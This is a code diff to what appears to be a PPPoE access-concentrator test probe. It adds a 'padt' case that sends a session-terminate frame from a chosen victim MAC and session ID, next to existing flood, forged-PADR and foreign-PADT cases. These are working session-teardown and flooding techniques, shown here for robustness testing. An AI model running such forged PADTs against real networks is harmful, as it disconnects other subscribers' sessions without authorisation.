@@ -28,6 +28,9 @@ Cases (each prints "probe ..." lines, then one "result case=CASE key=value ..." 
   oversize        a session frame with PPPoE LENGTH --size B (1494: PPP payload over the
                   1492 PPPoE MTU; a 1514-byte frame) in a session of the probe's own (or
                   --session N --victim MAC): result what came back; then PADT.
+  padt            a PADT from the subscriber's own MAC (--session N --victim MAC): a client
+                  that leaves without LCP Terminate; result session_frames_after (what the
+                  AC still sent the victim after --wait S).
   padt-foreign    a PADT for a session from another MAC: the probe's own session (or
                   --session N --victim MAC), PADT from a random MAC, then watches --wait S
                   (4): result victim_padt (the AC ended the victim: 1 = it believed the
@@ -308,6 +311,7 @@ class Probe:
             ("length-beyond-frame", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)], length=1000)),
             ("bad-vertype", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)], vertype=0x22)),
             ("session-id-nonzero", lambda hu: disc(PADI, 0x1234, [sn, tag(T_HUNIQ, hu)])),
+            ("control-after", lambda hu: disc(PADI, 0, [sn, tag(T_HUNIQ, hu)])),
         ]
         for name, build in variants:
             mac, hu = rand_mac(), os.urandom(8)
@@ -369,6 +373,19 @@ class Probe:
             self.padt(mac, ac, sid)
         out("result case=oversize sent=%d session_frames_after=%d padt=%d" % (ok, n_sess, padt))
 
+    def padt_client(self):
+        if not self.a.session or not self.a.victim or not self.ac:
+            out("probe setup-error --case padt needs --session N --victim MAC and an AC_MAC")
+            sys.exit(2)
+        mac, sid = mac_b(self.a.victim), self.a.session
+        self.padt(mac, self.ac, sid)
+        out("probe padt session=%d from=%s" % (sid, mac_s(mac)))
+        for _ in self.link.recv(time.time() + 0.2):
+            pass  # what was in flight when the PADT left
+        n = sum(1 for dst, src, et, pl in self.link.recv(time.time() + self.a.wait)
+                if dst == mac and src == self.ac and et == ETH_P_SESS)
+        out("result case=padt session=%d session_frames_after=%d" % (sid, n))
+
     def padt_foreign(self):
         ac, sid, mac, own = self.victim()
         forger = rand_mac()
@@ -396,7 +413,8 @@ def main():
     ap.add_argument("ac_mac")
     ap.add_argument("--vlan", type=int)
     ap.add_argument("--case", required=True,
-                    choices=["padi-flood", "padr-forged", "bad-tags", "unknown-session", "oversize", "padt-foreign"])
+                    choices=["padi-flood", "padr-forged", "bad-tags", "unknown-session", "oversize", "padt",
+                             "padt-foreign"])
     ap.add_argument("--count", type=int)
     ap.add_argument("--wait", type=float)
     ap.add_argument("--same-mac", action="store_true")
@@ -415,7 +433,7 @@ def main():
     except OSError as e:
         out("probe setup-error %s: %s" % (a.iface, e))
         sys.exit(2)
-    getattr(p, a.case.replace("-", "_"))()
+    getattr(p, "padt_client" if a.case == "padt" else a.case.replace("-", "_"))()
 
 
 if __name__ == "__main__":
